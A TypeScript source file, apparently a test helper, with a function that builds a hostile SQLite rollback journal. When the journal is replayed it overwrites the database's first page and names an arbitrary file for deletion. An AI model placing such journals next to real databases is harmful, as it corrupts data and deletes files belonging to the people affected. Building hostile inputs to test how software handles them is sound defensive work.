/**
 * A journal of SQLite that is to be played back (sqlite.org/fileformat2.html, 3): it makes the first page of the database anew, and
 * names another file to be removed.
 */
export function hostileJournal(page: Buffer, removed: string): Buffer {
  const [magic, nonce] = [Buffer.from('d9d505f920a163d7', 'hex'), 1234];
  const number = (value: number) => {
    const bytes = Buffer.alloc(4);
    bytes.writeUInt32BE(value >>> 0);
    return bytes;
  };
  let sum = nonce;
  for (let i = page.length - 200; i > 0; i -= 200) sum += page[i]!;
  const name = Buffer.from(removed);
  const head = Buffer.alloc(512);
  Buffer.concat([magic, ...[1, nonce, 1, 512, page.length].map(number)]).copy(head);
  const end = [0x40000000 / page.length + 1, name.length, name.reduce((all, byte) => all + byte, 0)].map(number);
  return Buffer.concat([head, number(1), page, number(sum), end[0]!, name, end[1]!, end[2]!, magic]);
}
